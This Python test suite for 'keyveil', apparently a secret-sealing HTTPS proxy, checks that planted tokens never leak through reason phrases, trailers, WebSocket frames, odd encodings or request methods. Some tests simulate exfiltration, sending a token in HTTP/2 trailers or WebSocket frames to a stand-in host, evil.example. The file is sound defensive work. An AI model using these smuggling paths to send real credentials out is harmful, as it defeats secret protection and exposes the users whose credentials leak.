"""Every byte, every output (issue 9): places a value can hide, with real processes.

A raw TLS upstream answers with bytes no ordinary server library writes (a
value in the reason phrase, in trailers, in a WebSocket close reason, a HEAD
answered with an unknown Content-Encoding); a raw client sends what ordinary
clients do not (Transfer-Encoding: gzip, UTF-16 JSON). Each value planted on
purpose must reach neither the provider, the unbound host, the client, the
console at full verbosity, the -w flow file nor the audit log; each place
keyveil cannot inspect is blocked with its code; clean traffic through the
same places is forwarded.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import os
import socket
import ssl
import struct
import threading
import time
from pathlib import Path

import pytest
import trustme

from tests import infra
from tests.conftest import keyveil, keyveil_proxy, make_home

pytestmark = pytest.mark.timeout(120)

NAMES = ["api.anthropic.com", "api.github.com", "evil.example", "gitlab.test.keyveil", "example.com"]


class RawUpstream:
    """A TLS server that records raw requests and answers with scripted bytes (by path)."""

    def __init__(self) -> None:
        self.ca = trustme.CA()
        cert = self.ca.issue_cert(*NAMES)
        self._ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        cert.configure_cert(self._ctx)
        self._sock = socket.create_server(("127.0.0.1", 0))
        self.tls_port = self._sock.getsockname()[1]
        self._plain = socket.create_server(("127.0.0.1", 0))
        self.plain_port = self._plain.getsockname()[1]
        self.ca_file = Path(os.environ.get("TMPDIR", "/tmp")) / f"rawup-{self.tls_port}.pem"
        self.ca.cert_pem.write_to_path(str(self.ca_file))
        self.ca_pem = str(self.ca_file)
        self.received: list[bytes] = []
        self.replies: dict[bytes, bytes] = {}
        self.after_upgrade: dict[bytes, bytes] = {}  # path -> what the client sent after a 101
        for sock, tls in ((self._sock, True), (self._plain, False)):
            threading.Thread(target=self._serve, args=(sock, tls), daemon=True).start()

    def _serve(self, sock: socket.socket, tls: bool) -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            threading.Thread(target=self._handle, args=(conn, tls), daemon=True).start()

    def _handle(self, conn: socket.socket, tls: bool) -> None:
        try:
            if tls:
                conn = self._ctx.wrap_socket(conn, server_side=True)
            conn.settimeout(5)
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(65536)
                if not chunk:
                    return
                data += chunk
            head, _, body = data.partition(b"\r\n\r\n")
            length = 0
            for line in head.split(b"\r\n")[1:]:
                k, _, v = line.partition(b":")
                if k.strip().lower() == b"content-length":
                    length = int(v)
            while len(body) < length:
                body += conn.recv(65536)
            self.received.append(head + b"\r\n\r\n" + body)
            path = head.split(b" ")[1]
            reply = self.replies.get(path, b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
            conn.sendall(reply)
            if path in self.after_upgrade and reply.startswith(b"HTTP/1.1 101"):
                conn.settimeout(3)
                while chunk := conn.recv(65536):
                    self.after_upgrade[path] += chunk
            time.sleep(0.2)
            conn.close()
        except (OSError, ssl.SSLError):
            pass

    def all_bytes(self) -> bytes:
        return b"".join(self.received)

    def close(self) -> None:
        self._sock.close()
        self._plain.close()


def tunnel(proxy, host: str, alpn: list[str] | None = None) -> ssl.SSLSocket:
    """A TLS connection to HOST through the proxy's CONNECT, trusting keyveil's CA
    (offering ALPN protocols when given)."""
    raw = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
    raw.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += raw.recv(4096)
    assert b" 200" in answer.split(b"\r\n")[0], answer[:100]
    ctx = infra.client_ssl_context(proxy.ca_cert)
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx.wrap_socket(raw, server_hostname=host)


def exchange(proxy, host: str, home: Path, request: bytes) -> bytes:
    s = tunnel(proxy, host)
    s.sendall(request)
    out = b""
    s.settimeout(5)
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
    except (TimeoutError, ssl.SSLError, OSError):
        pass
    s.close()
    return out


@pytest.fixture(scope="module")
def rawup():
    up = RawUpstream()
    yield up
    up.close()


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return make_home(tmp_path_factory.mktemp("every"))


@pytest.fixture(scope="module")
def kvproxy(rawup, setup, tmp_path_factory):
    work = tmp_path_factory.mktemp("every-proxy")
    with keyveil_proxy(rawup, work, setup, flowfile=work / "flows", options={"flow_detail": 4}) as p:
        yield p


def outputs(proxy, setup) -> list[tuple[str, bytes]]:
    time.sleep(0.8)  # the audit log is flushed twice a second
    audit = b"".join(p.read_bytes() for p in (setup.home / "audit").glob("*.jsonl"))
    return [("console", proxy.output().encode()), ("flow file", proxy.flowfile.read_bytes() if proxy.flowfile.exists() else b""), ("audit", audit)]


def assert_nowhere(value: bytes, places: list[tuple[str, bytes]]) -> None:
    forms = (value, base64.b64encode(value), value.hex().encode())
    where = [name for name, data in places if any(f in data for f in forms)]
    if os.environ.get("KV_DEBUG"):
        for name, data in places:
            for f in forms:
                i = data.find(f)
                if i != -1:
                    print(name, data[max(0, i - 300) : i].decode(errors="replace"))
    assert where == [], f"the value is in: {', '.join(where)}"


def test_a_value_in_the_reason_phrase_is_scrubbed(kvproxy, rawup, setup):
    v = setup.values["github/pat"]
    rawup.replies[b"/reason"] = b"HTTP/1.1 200 OK " + v + b"\r\ncontent-length: 2\r\n\r\nok"
    out = exchange(kvproxy, "api.github.com", setup.home, b"GET /reason HTTP/1.1\r\nHost: api.github.com\r\nconnection: close\r\n\r\n")
    status = out.split(b"\r\n", 1)[0]
    assert status.startswith(b"HTTP/1.1 200") and b"{{secret:github/pat}}" in status
    assert_nowhere(v, [("client", out), *outputs(kvproxy, setup)])


def test_a_value_in_response_trailers_is_scrubbed(kvproxy, rawup, setup):
    v = setup.values["github/pat"]
    rawup.replies[b"/trailers"] = (
        b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-debug\r\n\r\n"
        b"2\r\nok\r\n0\r\nx-debug: token=" + v + b"\r\n\r\n"
    )
    out = exchange(kvproxy, "api.github.com", setup.home, b"GET /trailers HTTP/1.1\r\nHost: api.github.com\r\nte: trailers\r\nconnection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200")
    assert_nowhere(v, [("client", out), *outputs(kvproxy, setup)])


def test_head_with_an_unknown_content_encoding_is_not_blocked(kvproxy, rawup, setup):
    rawup.replies[b"/head"] = b"HTTP/1.1 200 OK\r\ncontent-encoding: x-unknown\r\ncontent-length: 1234\r\n\r\n"
    out = exchange(kvproxy, "api.github.com", setup.home, b"HEAD /head HTTP/1.1\r\nHost: api.github.com\r\nconnection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200"), out[:200]
    assert b"x-keyveil-block" not in out.lower()
    rawup.replies[b"/get-unknown"] = b"HTTP/1.1 200 OK\r\ncontent-encoding: x-unknown\r\ncontent-length: 2\r\n\r\nzz"
    out = exchange(kvproxy, "api.github.com", setup.home, b"GET /get-unknown HTTP/1.1\r\nHost: api.github.com\r\nconnection: close\r\n\r\n")
    assert b"undecodable_body" in out  # with a body, it cannot be inspected: blocked


def test_a_transfer_coding_other_than_chunked_is_undecodable(kvproxy, rawup, setup):
    v = setup.values["github/pat"]
    body = gzip.compress(b'{"messages": [{"content": "' + v + b'"}]}')
    chunked = b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n"
    before = len(rawup.received)
    out = exchange(
        kvproxy, "api.anthropic.com", setup.home,
        b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\ncontent-type: application/json\r\n"
        b"transfer-encoding: gzip, chunked\r\nconnection: close\r\n\r\n" + chunked,
    )
    assert b"undecodable_body" in out or out == b""  # refused by keyveil (or by mitmproxy's own parser)
    assert len(rawup.received) == before
    assert_nowhere(v, [("provider", rawup.all_bytes()), *outputs(kvproxy, setup)])


def test_a_utf16_json_body_is_undecodable_and_utf8_passes(kvproxy, rawup, setup):
    v = setup.values["github/pat"]
    doc = json.dumps({"messages": [{"content": "key " + v.decode()}]})
    before = len(rawup.received)
    for charset, data in (("utf-16", doc.encode("utf-16")), ("utf-16le", doc.encode("utf-16-le"))):
        out = exchange(
            kvproxy, "api.anthropic.com", setup.home,
            b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\ncontent-type: application/json; charset=" + charset.encode()
            + b"\r\ncontent-length: %d\r\nconnection: close\r\n\r\n" % len(data) + data,
        )
        assert b"undecodable_body" in out and out.startswith(b"HTTP/1.1 502")
    assert len(rawup.received) == before
    data = doc.encode()
    out = exchange(
        kvproxy, "api.anthropic.com", setup.home,
        b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\ncontent-type: application/json; charset=utf-8"
        b"\r\ncontent-length: %d\r\nconnection: close\r\n\r\n" % len(data) + data,
    )
    assert out.startswith(b"HTTP/1.1 200")
    assert b"{{secret:github/pat}}" in rawup.received[-1]
    assert_nowhere(v, [("provider", rawup.all_bytes()), *outputs(kvproxy, setup)])


def test_a_value_in_request_trailers_never_reaches_the_provider(kvproxy, rawup, setup):
    v = setup.values["github/pat"]
    exchange(
        kvproxy, "api.anthropic.com", setup.home,
        b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\ntransfer-encoding: chunked\r\ntrailer: x-token\r\n"
        b"connection: close\r\n\r\n2\r\n{}\r\n0\r\nx-token: " + v + b"\r\n\r\n",
    )
    assert_nowhere(v, [("provider", rawup.all_bytes()), *outputs(kvproxy, setup)])


def _ws_accept(key: bytes) -> bytes:
    return base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())


def test_a_value_in_a_websocket_close_reason_is_scrubbed(kvproxy, rawup, setup):
    v = setup.values["ws/token"]
    key = base64.b64encode(os.urandom(16))
    reason = b"bye " + v
    close = bytes([0x88, 2 + len(reason)]) + struct.pack("!H", 1000) + reason
    rawup.replies[b"/ws-close"] = (
        b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\n"
        b"sec-websocket-accept: " + _ws_accept(key) + b"\r\n\r\n" + close
    )
    out = exchange(
        kvproxy, "api.github.com", setup.home,
        b"GET /ws-close HTTP/1.1\r\nHost: api.github.com\r\nupgrade: websocket\r\nconnection: Upgrade\r\n"
        b"sec-websocket-version: 13\r\nsec-websocket-key: " + key + b"\r\n\r\n",
    )
    assert out.startswith(b"HTTP/1.1 101"), out[:100]
    frames = out.split(b"\r\n\r\n", 1)[1]
    assert frames[:1] == b"\x88"  # the close frame reached the client
    assert b"{{secret:ws/token}}" in frames
    assert_nowhere(v, [("client", out), *outputs(kvproxy, setup)])


def test_the_very_next_request_after_secret_set_is_sealed(kvproxy, rawup, setup):
    fresh = b"fresh_" + base64.b32encode(os.urandom(20)).rstrip(b"=")
    r = keyveil(setup.env, "secret", "set", "fresh/one", stdin=fresh)
    assert r.returncode == 0, r.stderr
    body = b'{"messages": [{"content": "' + fresh + b'"}]}'
    exchange(
        kvproxy, "api.anthropic.com", setup.home,
        b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\ncontent-type: application/json\r\n"
        b"content-length: %d\r\nconnection: close\r\n\r\n" % len(body) + body,
    )
    assert b"{{secret:fresh/one}}" in rawup.received[-1]
    assert fresh not in rawup.all_bytes()
    r = keyveil(setup.env, "secret", "rm", "fresh/one")
    assert r.returncode == 0, r.stderr


def test_a_block_message_never_quotes_the_injected_path(kvproxy, rawup, setup):
    gl = setup.values["gitlab/token"]
    # gitlab/token is injected into the path of gitlab.test.keyveil; the
    # github reference in Authorization is unbound there: the block message
    # quotes the path, which must be the sealed one.
    out = exchange(
        kvproxy, "gitlab.test.keyveil", setup.home,
        b"GET /api/{{secret:gitlab/token}}/projects HTTP/1.1\r\nHost: gitlab.test.keyveil\r\n"
        b"authorization: Bearer {{secret:github/pat}}\r\nconnection: close\r\n\r\n",
    )
    assert b"unbound_reference" in out
    assert b"{{secret:gitlab/token}}" in out or b"/api/" in out
    assert_nowhere(gl, [("client", out), *outputs(kvproxy, setup)])


def test_clean_traffic_through_the_same_places_is_forwarded_byte_for_byte(kvproxy, rawup, setup):
    body = json.dumps({"messages": [{"content": "nothing secret here \\u00e9"}]}).encode()
    exchange(
        kvproxy, "api.anthropic.com", setup.home,
        b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\ncontent-type: application/json; charset=utf-8\r\n"
        b"content-length: %d\r\nconnection: close\r\n\r\n" % len(body) + body,
    )
    assert rawup.received[-1].endswith(b"\r\n\r\n" + body)
    rawup.replies[b"/clean"] = b"HTTP/1.1 200 Fine Thanks\r\ncontent-length: 5\r\n\r\nhello"
    out = exchange(kvproxy, "api.github.com", setup.home, b"GET /clean HTTP/1.1\r\nHost: api.github.com\r\nconnection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200 Fine Thanks") and b"hello" in out.split(b"\r\n\r\n", 1)[1]


# ---------------------------------------------------------------- HTTP/2 trailers


class H2Upstream:
    """A TLS server speaking only HTTP/2 (h2 library, the one mitmproxy uses):
    records each stream's headers, body and trailers, and answers with a
    body and trailers scripted by path."""

    def __init__(self) -> None:
        import h2.config
        import h2.connection
        import h2.events

        self._h2 = (h2.config, h2.connection, h2.events)
        self.ca = trustme.CA()
        self._ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self.ca.issue_cert(*NAMES).configure_cert(self._ctx)
        self._ctx.set_alpn_protocols(["h2"])
        self._sock = socket.create_server(("127.0.0.1", 0))
        self.tls_port = self._sock.getsockname()[1]
        self.plain_port = self.tls_port  # plain HTTP is not spoken here
        self.ca_file = Path(os.environ.get("TMPDIR", "/tmp")) / f"h2up-{self.tls_port}.pem"
        self.ca.cert_pem.write_to_path(str(self.ca_file))
        self.ca_pem = str(self.ca_file)
        self.streams: list[dict] = []
        self.trailers: dict[bytes, list[tuple[bytes, bytes]]] = {}
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self._sock.accept()
            except OSError:
                return
            threading.Thread(target=self._handle, args=(conn,), daemon=True).start()

    def _handle(self, conn: socket.socket) -> None:
        config, connection, events = self._h2
        try:
            tls = self._ctx.wrap_socket(conn, server_side=True)
            tls.settimeout(10)
            h2c = connection.H2Connection(config.H2Configuration(client_side=False, header_encoding=None))
            h2c.initiate_connection()
            tls.sendall(h2c.data_to_send())
            open_streams: dict[int, dict] = {}
            while True:
                data = tls.recv(65536)
                if not data:
                    return
                for ev in h2c.receive_data(data):
                    if isinstance(ev, events.RequestReceived):
                        open_streams[ev.stream_id] = {"headers": list(ev.headers), "body": b"", "trailers": []}
                    elif isinstance(ev, events.DataReceived):
                        open_streams[ev.stream_id]["body"] += ev.data
                        h2c.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    elif isinstance(ev, events.TrailersReceived):
                        open_streams[ev.stream_id]["trailers"] = list(ev.headers)
                    elif isinstance(ev, events.StreamEnded):
                        stream = open_streams.pop(ev.stream_id)
                        self.streams.append(stream)
                        path = dict(stream["headers"])[b":path"]
                        h2c.send_headers(ev.stream_id, [(b":status", b"200"), (b"content-type", b"text/plain")])
                        h2c.send_data(ev.stream_id, b"ok")
                        h2c.send_headers(ev.stream_id, self.trailers.get(path, [(b"x-done", b"1")]), end_stream=True)
                tls.sendall(h2c.data_to_send())
        except (OSError, ssl.SSLError):
            pass

    def all_bytes(self) -> bytes:
        return repr(self.streams).encode()

    def close(self) -> None:
        self._sock.close()


def h2_exchange(proxy, host: str, path: bytes, body: bytes, trailers: list[tuple[bytes, bytes]]) -> dict:
    """One HTTP/2 request through the proxy (ALPN h2 inside the CONNECT tunnel),
    body then TRAILERS; returns the response's status, headers, body, trailers
    and the raw bytes the client received."""
    import h2.config
    import h2.connection
    import h2.events

    tls = tunnel(proxy, host, alpn=["h2"])
    assert tls.selected_alpn_protocol() == "h2"
    h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    h2c.initiate_connection()
    sid = h2c.get_next_available_stream_id()
    h2c.send_headers(sid, [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", host.encode()),
                           (b":path", path), (b"content-type", b"application/json"), (b"te", b"trailers")])
    h2c.send_data(sid, body)
    h2c.send_headers(sid, trailers, end_stream=True)
    tls.sendall(h2c.data_to_send())
    got: dict = {"status": None, "headers": [], "body": b"", "trailers": [], "wire": b""}
    tls.settimeout(10)
    done = False
    while not done:
        data = tls.recv(65536)
        if not data:
            break
        got["wire"] += data
        for ev in h2c.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                got["headers"] = list(ev.headers)
                got["status"] = dict(ev.headers)[b":status"]
            elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                got["body"] += ev.data
                h2c.acknowledge_received_data(ev.flow_controlled_length, sid)
            elif isinstance(ev, h2.events.TrailersReceived) and ev.stream_id == sid:
                got["trailers"] = list(ev.headers)
            elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)) and ev.stream_id == sid:
                done = True
        tls.sendall(h2c.data_to_send())
    tls.close()
    return got


@pytest.fixture(scope="module")
def h2up():
    up = H2Upstream()
    yield up
    up.close()


@pytest.fixture(scope="module")
def h2proxy(h2up, setup, tmp_path_factory):
    work = tmp_path_factory.mktemp("every-h2")
    with keyveil_proxy(h2up, work, setup, flowfile=work / "flows", options={"flow_detail": 4}) as p:
        yield p


def test_http2_request_trailers_toward_the_provider_are_sealed(h2proxy, h2up, setup):
    v = setup.values["github/pat"]
    got = h2_exchange(h2proxy, "api.anthropic.com", b"/v1/messages", b"{}", [(b"x-token", b"token " + v)])
    assert got["status"] == b"200"
    stream = h2up.streams[-1]
    assert stream["body"] == b"{}"
    assert (b"x-token", b"token {{secret:github/pat}}") in stream["trailers"]
    assert_nowhere(v, [("provider", h2up.all_bytes()), ("client", got["wire"]), *outputs(h2proxy, setup)])


def test_http2_request_trailers_toward_an_unbound_host_are_blocked(h2proxy, h2up, setup):
    v = setup.values["github/pat"]
    before = len(h2up.streams)
    got = h2_exchange(h2proxy, "evil.example", b"/collect", b"{}", [(b"x-token", v)])
    assert got["status"] == b"403"
    assert (b"x-keyveil-block", b"plaintext_egress") in got["headers"]
    assert all(v not in repr(s).encode() for s in h2up.streams[before:])
    assert_nowhere(v, [("unbound host", h2up.all_bytes()), ("client", got["wire"]), *outputs(h2proxy, setup)])


def test_http2_response_trailers_are_scrubbed(h2proxy, h2up, setup):
    v = setup.values["github/pat"]
    h2up.trailers[b"/h2-trailers"] = [(b"x-debug", b"token=" + v), (b"grpc-status", b"0")]
    got = h2_exchange(h2proxy, "api.github.com", b"/h2-trailers", b"{}", [(b"x-done", b"1")])
    assert got["status"] == b"200" and got["body"] == b"ok"
    assert (b"x-debug", b"token={{secret:github/pat}}") in got["trailers"]
    assert (b"grpc-status", b"0") in got["trailers"]
    assert_nowhere(v, [("client", got["wire"]), *outputs(h2proxy, setup)])


def test_clean_http2_trailers_pass_unchanged(h2proxy, h2up, setup):
    h2up.trailers[b"/h2-clean"] = [(b"grpc-status", b"0"), (b"grpc-message", b"fine")]
    got = h2_exchange(h2proxy, "api.anthropic.com", b"/h2-clean", b'{"a": 1}', [(b"x-checksum", b"abc123")])
    assert h2up.streams[-1]["trailers"] == [(b"x-checksum", b"abc123")]
    assert h2up.streams[-1]["body"] == b'{"a": 1}'
    assert got["trailers"] == [(b"grpc-status", b"0"), (b"grpc-message", b"fine")]


# ---------------------------------------------------------------- client-sent WebSocket control frames


def _client_frame(opcode: int, payload: bytes) -> bytes:
    mask = os.urandom(4)
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return bytes([0x80 | opcode, 0x80 | len(payload)]) + mask + masked


def _server_frames(data: bytes) -> list[tuple[int, bytes]]:
    """The frames a client wrote (what the upstream received), unmasked."""
    frames, i = [], 0
    while i + 2 <= len(data):
        opcode, masked, length = data[i] & 0x0F, data[i + 1] & 0x80, data[i + 1] & 0x7F
        i += 2
        if length == 126:
            length, i = struct.unpack("!H", data[i : i + 2])[0], i + 2
        mask = b"\0" * 4
        if masked:
            mask, i = data[i : i + 4], i + 4
        frames.append((opcode, bytes(b ^ mask[j % 4] for j, b in enumerate(data[i : i + length]))))
        i += length
    return frames


@pytest.mark.parametrize("host", ["api.anthropic.com", "evil.example"], ids=["provider", "unbound"])
def test_a_value_in_a_client_close_reason_or_ping_never_leaves(kvproxy, rawup, setup, host):
    v = setup.values["ws/token"]
    key = base64.b64encode(os.urandom(16))
    path = b"/ws-client-close-" + host.encode()
    rawup.replies[path] = (
        b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\n"
        b"sec-websocket-accept: " + _ws_accept(key) + b"\r\n\r\n"
    )
    rawup.after_upgrade[path] = b""
    s = tunnel(kvproxy, host)
    s.sendall(
        b"GET " + path + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nupgrade: websocket\r\nconnection: Upgrade\r\n"
        b"sec-websocket-version: 13\r\nsec-websocket-key: " + key + b"\r\n\r\n"
    )
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += s.recv(4096)
    assert answer.startswith(b"HTTP/1.1 101"), answer[:100]
    s.sendall(_client_frame(0x9, b"ping " + v))
    s.sendall(_client_frame(0x8, struct.pack("!H", 1000) + b"bye " + v))
    s.settimeout(5)
    try:
        while s.recv(65536):
            pass
    except (TimeoutError, ssl.SSLError, OSError):
        pass
    s.close()
    time.sleep(0.5)
    frames = _server_frames(rawup.after_upgrade[path])
    close = [p for op, p in frames if op == 0x8]
    assert close, f"the upstream got no close frame: {frames}"
    assert close[0][:2] == struct.pack("!H", 1000) and b"{{secret:ws/token}}" in close[0]
    assert_nowhere(v, [("upstream", rawup.after_upgrade[path]), ("upstream frames", repr(frames).encode()), *outputs(kvproxy, setup)])


@pytest.mark.parametrize("host", ["api.anthropic.com", "evil.example"], ids=["provider", "unbound"])
def test_a_value_as_the_request_method_is_refused_and_never_repeated(kvproxy, rawup, setup, host):
    v = setup.values["github/pat"]  # ghp_ + url-safe base64: a valid HTTP method token
    before = len(rawup.received)
    out = exchange(kvproxy, host, setup.home, v + b" /x HTTP/1.1\r\nHost: " + host.encode() + b"\r\nconnection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 403") and b"plaintext_egress" in out, out[:200]
    assert len(rawup.received) == before
    assert_nowhere(v, [("client", out), *outputs(kvproxy, setup)])
